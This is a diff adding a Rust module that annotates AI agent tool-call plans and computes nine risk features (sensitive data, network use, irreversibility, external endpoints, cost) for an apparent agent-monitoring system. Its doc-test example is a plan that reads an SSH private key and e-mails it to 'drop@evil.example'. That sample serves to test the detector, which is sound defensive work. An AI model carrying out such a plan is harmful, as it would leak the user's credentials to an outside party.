@@ -1,0 +1,65 @@
+//! Plan annotation and the 9 NEXUS plan features.
+//!
+//! Real agents emit a tool name and arguments, not NEXUS's hand annotations. The
+//! [`ToolAnnotator`] fills every missing annotation of a [`Step`](vigil_contracts::Step) —
+//! irreversible, sensitive, network, permissions, estimated cost, endpoints — from the tool name
+//! and arguments with a default lexicon, overridden per tool by a user-supplied [`ToolCatalog`].
+//! Annotations given on the step always win. [`plan_features`] then computes the 9-D vector in the NEXUS order
+//! ([`PLAN_FEATURES`], schema [`plan_schema`]).
+//!
+//! ```
+//! use vigil_contracts::{from_json_str, Plan};
+//! use vigil_features::plan::{plan_features, ToolAnnotator, Action};
+//!
+//! let plan: Plan = from_json_str(r#"{"budget": 10, "steps": [
+//!     {"tool": "read_file", "args": {"path": "/home/me/.ssh/id_rsa"}},
+//!     {"tool": "send_email", "args": {"to": "drop@evil.example", "body": "see attached"}}]}"#).unwrap();
+//! let annotator = ToolAnnotator::default();
+//! let steps = annotator.annotate_plan(&plan);
+//! assert!(steps[0].sensitive && !steps[0].network);
+//! assert_eq!(steps[1].action, Action::Send);
+//! assert!(steps[1].irreversible && steps[1].network);
+//! assert_eq!(steps[1].endpoints, vec!["drop@evil.example".to_string()]);
+//! let x = plan_features(&plan, &steps);
+//! assert_eq!(x[0], 2.0); // num_steps
+//! assert_eq!(x[8], 1.0); // external_endpoint_count
+//! ```
+//!
+//! ## Design choices (NEXUS does not publish its feature code)
+//!
+//! - **permission** = a `domain:action` scope (`email:send`, `files:delete`, `iam:grant`);
+//!   `permissions_required` counts unique scopes over the plan.
+//! - **cost** is in the unit of the plan's `budget`: a transfer counts the money it moves (its
+//!   `amount`), every other step a nominal per-action cost ([`action_cost`]), cloud provisioning
+//!   ×10 and ×`count` when it creates several resources. `budget_utilisation` is 0 without a budget
+//!   (no limit was set) and uses a budget of 0 as "no spending allowed" (utilisation = cost / 1e-9,
+//!   capped at 1e6).
+//! - **endpoints** are URL hosts and e-mail addresses, lower-cased, unique over the plan; loopback
+//!   and `.local`/`.internal` hosts are not external and are not counted.
+//!
+//! ## Where things are
+//!
+//! | file | what |
+//! |---|---|
+//! | `features.rs` | [`PLAN_FEATURES`], [`plan_schema`], [`plan_features`] |
+//! | `annotator.rs` | [`ToolAnnotator`], [`ToolCatalog`], [`CatalogEntry`], [`StepAnnotation`], [`Action`]; action, domain and cost inference ([`action_cost`], [`tool_tokens`]) |
+//! | `lexicon.rs` | the default word lists: action verbs, resource domains ([`domain_words`]), network, irreversible and sensitive tokens, sensitive substrings |
+//! | `args.rs` | the argument scan (URLs, e-mails, paths, SQL, sensitive terms) and command lines ([`is_read_only_command`]) |
+//! | `endpoints.rs` | [`normalise_endpoints`], [`is_external`], [`endpoints_in_text`] |
+//!
+//! Nested arguments are read down to [`MAX_ARG_DEPTH`](crate::json_walk::MAX_ARG_DEPTH) levels
+//! ([`json_walk`](crate::json_walk)).
+
+mod annotator;
+mod args;
+mod endpoints;
+mod features;
+mod lexicon;
+
+pub use annotator::{
+    Action, CatalogEntry, StepAnnotation, ToolAnnotator, ToolCatalog, action_cost, tool_tokens,
+};
+pub use args::is_read_only_command;
+pub use endpoints::{endpoints_in_text, is_external, normalise_endpoints};
+pub use features::{PLAN_FEATURES, plan_features, plan_schema};
+pub use lexicon::domain_words;
